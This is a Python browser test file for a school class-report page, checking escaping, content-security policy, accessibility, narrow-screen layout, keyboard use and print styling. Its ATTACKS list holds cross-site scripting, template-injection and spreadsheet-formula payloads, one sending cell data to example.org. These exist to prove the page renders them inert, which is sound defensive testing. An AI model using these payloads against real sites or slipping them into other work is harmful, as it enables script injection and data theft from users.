"""The class report in a real browser: it runs nothing that was typed, needs no network, can be read by all."""

import re

import msgspec
import pytest
from axe_playwright_python.sync_playwright import Axe
from graded_class import simulated
from paths import ROOT
from playwright.sync_api import expect

from unspin.desk.grade.graded import Graded, RefusedFile, SetAside
from unspin.desk.report.class_report import page as report
from unspin.text import library

pytestmark = pytest.mark.browser

ATTACKS = (
    "<img src=x onerror=hacked=1>",
    "</script><script>hacked=1;alert(1)</script>",
    "<svg onload=hacked=1><animate onbegin=hacked=1 attributeName=x dur=1s>",
    "</style></title></details></table><iframe src=javascript:parent.hacked=1>",
    '"><a href="javascript:hacked=1" autofocus onfocus=hacked=1>x</a>',
    "' onmouseover='hacked=1",
    "<details open ontoggle=hacked=1>",
    "<!--<script>hacked=1",
    "<link rel=stylesheet href=http://example.org/a.css><meta http-equiv=refresh content=0;url=http://example.org>",
    '=HYPERLINK("http://example.org/"&A1,"x")',
    "\u202e\u0000<b>gnp</b>",
    "{{constructor.constructor('hacked=1')()}}",
)
CHARTS = 7  # two for each of the three labelled texts, and what changed
SIDEWAYS = """() => [document.documentElement.scrollWidth, [...document.querySelectorAll("main *")].filter(element => {
    const box = element.getBoundingClientRect();
    return box.width && box.right > innerWidth + 0.5 && !element.closest(".wide");
}).map((element) => element.outerHTML.slice(0, 120))]"""
NARROW = {"viewport": {"width": 320, "height": 640}}
PROJECTOR = {"viewport": {"width": 1280, "height": 720}}


@pytest.fixture(autouse=True)
def in_the_real_course(monkeypatch):
    monkeypatch.chdir(ROOT)


def attacked() -> Graded:
    """The simulated class, in which every text that a student can type is an attack."""
    graded = simulated()
    works = tuple(
        msgspec.structs.replace(work, student=f"{attack} {work.student[-2:]}", alias=attack, file=f"{attack}.json")
        for work in graded.works
        for attack in [ATTACKS[int(work.student[-2:]) % len(ATTACKS)]]
    )
    refused = tuple(RefusedFile(f"{attack}.json", f"{attack} is damaged.") for attack in ATTACKS)
    aside = tuple(SetAside(attack, attack, "02-claim-or-view", f"{attack} handed in again.") for attack in ATTACKS)
    return Graded(graded.lessons, works, aside, refused, ATTACKS)


@pytest.fixture
def show(new_page, tmp_path):
    """Open a report; the requests that its page makes are kept in `page.asked`, dialogs in `page.dialogs`."""

    def show_report(graded, *, options=None, **context):
        path = tmp_path / "class-report.html"
        path.write_text(report(graded, library=library.here(), **(options or {})), encoding="utf-8")
        page = new_page(**context)
        page.asked, page.dialogs = [], []
        page.on("request", lambda request: page.asked.append(request.url))
        page.on("dialog", lambda dialog: (page.dialogs.append(dialog.message), dialog.dismiss()))
        page.goto(path.as_uri())
        expect(page.locator(".chart .main-svg").first).to_be_attached()
        return page

    return show_report


def open_all(page):
    page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")


def faults(page):
    return [
        (fault["id"], [node["html"][:200] for node in fault["nodes"]])
        for fault in Axe().run(page).response["violations"]
    ]


def test_nothing_that_a_student_typed_is_executed_and_nothing_is_asked_of_a_network(show):
    page = show(attacked())
    open_all(page)
    page.mouse.move(600, 400)
    page.keyboard.press("Tab")
    page.wait_for_timeout(300)
    assert page.evaluate("typeof hacked") == "undefined" and page.dialogs == []
    assert [url for url in page.asked if not url.startswith(("file:", "data:image/png"))] == []
    assert len([url for url in page.asked if url.startswith("file:")]) == 1
    assert page.evaluate("document.querySelectorAll('main :is(iframe, a, img, b, link, meta)').length") == 0
    shown = page.locator("#people").inner_text()
    for attack in ATTACKS[:-2]:
        assert attack in shown


def test_the_policy_stops_what_would_get_past_the_escaping(show, tmp_path):
    page = show(simulated(), but_for="")
    page.evaluate("document.querySelector('main').insertAdjacentHTML('beforeend', '<img src=x onerror=hacked=1>')")
    page.evaluate("""() => { const script = document.createElement('script'); script.textContent = 'hacked=1';
        document.body.append(script); }""")
    blocked = page.evaluate("fetch('http://example.org/').then(() => 'sent', () => 'blocked')")
    page.wait_for_timeout(200)
    assert blocked == "blocked" and page.evaluate("typeof hacked") == "undefined"


def test_every_chart_is_drawn_once_and_has_its_text(show):
    page = show(simulated())
    expect(page.locator(".chart:has(.main-svg)")).to_have_count(CHARTS)
    assert page.locator(".chart").count() == page.get_by_text("Read this chart as text").count() == CHARTS
    assert page.locator(".chart .heatmaplayer image").count() >= 3
    assert page.locator(".chart .points path").count() > 15


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("size", [PROJECTOR, NARROW], ids=["projector", "320 px"])
def test_axe_finds_nothing(show, screenshot, size, scheme):
    page = show(simulated(), color_scheme=scheme, **size)
    name = f"class-report-{size['viewport']['width']}-{scheme}"
    assert faults(page) == []
    screenshot(page, name, full_page=True)
    open_all(page)
    assert faults(page) == []


@pytest.mark.parametrize("graded", [simulated, attacked])
def test_nothing_scrolls_sideways_at_320_pixels(show, graded):
    page = show(graded(), **NARROW)
    open_all(page)
    expect(page.locator(".chart:has(.main-svg)")).to_have_count(CHARTS)
    assert page.evaluate(SIDEWAYS) == [320, []]


def test_the_keyboard_reaches_the_parts_opens_what_is_folded_and_scrolls_a_wide_table(show):
    page = show(simulated(), **PROJECTOR)
    page.keyboard.press("Tab")
    expect(page.locator(":focus")).to_have_text("To the report")
    page.keyboard.press("Enter")
    expect(page.locator("main")).to_be_focused()
    page.keyboard.press("Tab")
    expect(page.locator(":focus")).to_have_text("And beside the key?")
    page.keyboard.press("Enter")
    expect(page.get_by_text("Beside the key, with luck taken off").first).to_be_visible()
    region = page.locator(".wide").first
    region.focus()
    assert region.evaluate("box => getComputedStyle(box).outlineStyle") == "solid"


def test_type_is_large_enough_for_a_projector_and_charts_grow_with_it(show):
    page = show(simulated(), **PROJECTOR)
    size = "element => parseFloat(getComputedStyle(element).fontSize)"
    assert page.locator("main p").first.evaluate(size) >= 20
    assert page.locator("blockquote").first.evaluate(size) >= 28
    assert page.locator(".chart .xtick text").first.evaluate(size) >= 18


def test_it_is_printed_black_on_white_without_links_and_as_wide_as_the_paper(show, screenshot):
    page = show(simulated(), color_scheme="dark", **PROJECTOR)
    page.emulate_media(media="print", color_scheme="dark")
    page.set_viewport_size({"width": 680, "height": 960})
    expect(page.locator("nav")).to_be_hidden()
    assert page.locator("body").evaluate("body => getComputedStyle(body).backgroundColor") == "rgb(255, 255, 255)"
    expect(page.locator(".chart .main-svg").first).to_have_attribute("width", "640")
    assert page.evaluate("document.documentElement.scrollWidth") <= 680
    screenshot(page, "class-report-print", full_page=True)
    paper = page.pdf(format="A4")
    assert paper.startswith(b"%PDF") and 8 <= len(re.findall(rb"/Type /Page\b", paper)) <= 40
    page.set_viewport_size(PROJECTOR["viewport"])
    page.emulate_media(media="screen")
    width = page.locator(".chart").first.bounding_box()["width"]
    assert width > 900
    expect(page.locator(".chart .main-svg").first).to_have_attribute("width", f"{width:g}")


def test_without_scripts_the_page_says_where_the_text_of_a_chart_is(new_page, tmp_path):
    path = tmp_path / "class-report.html"
    path.write_text(report(simulated(), library=library.here()), encoding="utf-8")
    page = new_page(java_script_enabled=False)
    page.goto(path.as_uri())
    expect(page.get_by_text("The chart is not drawn yet.").first).to_be_visible()


def test_an_anonymous_open_report_of_two_students_can_be_read_by_all(show):
    graded = simulated()
    few = tuple(work for work in graded.works if work.student.endswith(("01", "02")))
    page = show(Graded(graded.lessons, few), options={"open_": True, "anonymous": True}, **NARROW)
    open_all(page)
    assert faults(page) == []
    expect(page.get_by_text("2 students are too few to speak of a class.").first).to_be_visible()
